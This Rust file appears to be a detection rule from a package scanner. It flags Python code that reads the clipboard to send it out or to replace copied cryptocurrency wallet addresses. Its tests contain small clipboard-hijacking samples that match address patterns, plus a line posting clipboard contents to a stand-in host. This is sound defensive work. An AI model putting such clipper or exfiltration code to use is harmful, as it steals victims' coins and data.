//! `STL-001`: wallet addresses in the clipboard are read and replaced.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::BESIDE;
use super::evidence::texts;
use super::sent::{command_lines, spaced};
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Context, Label, Module, SinkKind};

/// The rule.
pub(super) struct ClipboardSwap;

impl Rule for ClipboardSwap {
    fn id(&self) -> &'static str {
        "STL-001"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "it reads the clipboard to send or replace what is in it"
    }

    fn manual(&self) -> &'static str {
        "What is in the clipboard is sent away, written to a file, or compared with the shape \
         of a wallet's address and replaced.\n\n\
         Swapping the address that somebody has just copied is how coins are stolen without \
         breaking anything.\n\n\
         Mistaken for it: clipboard managers. They do not know what an address looks like, and \
         do not send."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let leaves = matches!(flow.kind, SinkKind::Send | SinkKind::Resolve);
            if flow.label != Label::Clipboard || !leaves {
                continue;
            }
            let severity = in_context(Severity::High, flow.context);
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!("{} sends the clipboard", analysis.sink(flow).target);
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for module in analysis
            .modules
            .iter()
            .filter(|module| knows_wallets(module))
        {
            let Some(call) = names_clipboard(module) else {
                continue;
            };
            let severity = even_if_asked(Severity::High, call.context);
            let message = format!(
                "{} works on the clipboard where wallets are known",
                call.target
            );
            observations.push(observe_call(self, call, (severity, BESIDE), message));
        }
        let reads = analysis.calls().any(reads_clipboard);
        let knows = reads && analysis.modules.iter().any(knows_wallets);
        for module in analysis.modules.iter().filter(|_| knows) {
            for call in module.calls.iter().filter(|call| writes_clipboard(call)) {
                // A swap runs in the background: who calls the function does not ask for it.
                let severity = match call.context {
                    Context::Call | Context::Entry => Severity::High,
                    context => in_context(Severity::High, context),
                };
                let confidence = Confidence::of(90);
                let message = format!(
                    "{} replaces a wallet's address in the clipboard",
                    call.target
                );
                observations.push(observe_call(self, call, (severity, confidence), message));
            }
        }
    }
}

/// Parts of regular expressions and addresses that only wallets have.
const WALLETS: &[&str] = &["a-km-z", "bc1q", "[a-fA-F0-9]{40}", "[0-9a-fA-F]{40}"];

/// How often a character of an address is repeated, in expressions for them.
const LENGTHS: &[&str] = &["{40}", "{94}", "{95}", "{33}", "{25,3", "{26,3"];

fn knows_wallets(module: &Module) -> bool {
    let is_expression = |text: &str| {
        let starts = ["0x[", "[13]", "4[", "T[", "bc1", "[LM", "r["];
        text.len() < 200
            && LENGTHS.iter().any(|part| text.contains(part))
            && starts.iter().any(|part| text.contains(part))
    };
    let says = |text: &str| WALLETS.iter().any(|part| text.contains(part)) || is_expression(text);
    module.literals.iter().any(|literal| says(&literal.text))
        || module
            .calls
            .iter()
            .any(|call| texts(call).into_iter().any(says))
}

/// A call that starts a program, in a module that names those which read and write the clipboard.
fn names_clipboard(module: &Module) -> Option<&Call> {
    let has = |words: &[&str]| {
        let mut literals = module.literals.iter();
        literals.any(|literal| words.iter().any(|word| literal.text.contains(word)))
    };
    let names = has(&["pbpaste", "xclip", "wl-paste", "Get-Clipboard"]);
    let mut started = module
        .calls
        .iter()
        .filter(|call| call.sink == Some(SinkKind::Command));
    names.then(|| started.next())?
}

fn reads_clipboard(call: &Call) -> bool {
    matches!(
        &*call.target,
        "pyperclip.paste"
            | "pyperclip.waitForNewPaste"
            | "pyperclip.waitForPaste"
            | "clipboard.paste"
            | "win32clipboard.GetClipboardData"
            | "tkinter.Tk().clipboard_get"
            | "pandas.read_clipboard"
            | "ctypes.windll.user32.GetClipboardData"
    ) || call.target.ends_with(".clipboard_get")
        || call.target.ends_with(".selection_get") && texts(call).contains(&"CLIPBOARD")
        || command_lines(call).iter().any(|line| {
            let line = spaced(line);
            line.contains(" pbpaste ")
                || line.contains("get-clipboard")
                || line.contains(" wl-paste ")
                || [" xclip ", " xsel "].iter().any(|name| line.contains(name))
                    && line.contains(" -o ")
        })
}

fn writes_clipboard(call: &Call) -> bool {
    matches!(
        &*call.target,
        "pyperclip.copy"
            | "clipboard.copy"
            | "win32clipboard.SetClipboardText"
            | "win32clipboard.SetClipboardData"
            | "ctypes.windll.user32.SetClipboardData"
    ) || call.target.ends_with(".clipboard_append")
        || command_lines(call).iter().any(|line| {
            let line = spaced(line);
            let writes = [" pbcopy ", " wl-copy ", "set-clipboard", " clip "];
            writes.iter().any(|name| line.contains(name))
                || [" xclip ", " xsel "].iter().any(|name| line.contains(name))
                    && line.split(" xclip ").any(|part| !part.contains(" -o "))
        })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn swapped_addresses_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', t):\n        pyperclip.copy('1Inert')",
            ),
            (
                "demo/__init__.py",
                "import clipboard as c, re, threading\nP = re.compile(r'0x[a-fA-F0-9]{40}')\ndef watch():\n    if P.search(c.paste()):\n        c.copy('0xinert')\nthreading.Thread(target=watch).start()",
            ),
            (
                "demo/__init__.py",
                "import win32clipboard as w\ndef swap():\n    d = w.GetClipboardData()\n    if d.startswith('bc1q'):\n        w.SetClipboardText('inert')\nswap()",
            ),
            (
                "demo/__init__.py",
                "import pyperclip, requests\nrequests.post('https://collect.invalid', data=pyperclip.paste())",
            ),
        ] {
            found("STL-001", path, code);
        }
    }

    #[test]
    fn clipboard_managers_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import pyperclip\ndef upper():\n    pyperclip.copy(pyperclip.paste().upper())",
            ),
            (
                "demo/__init__.py",
                "import pyperclip\npyperclip.copy('hello')",
            ),
        ] {
            quiet("STL-001", path, code);
        }
    }
}
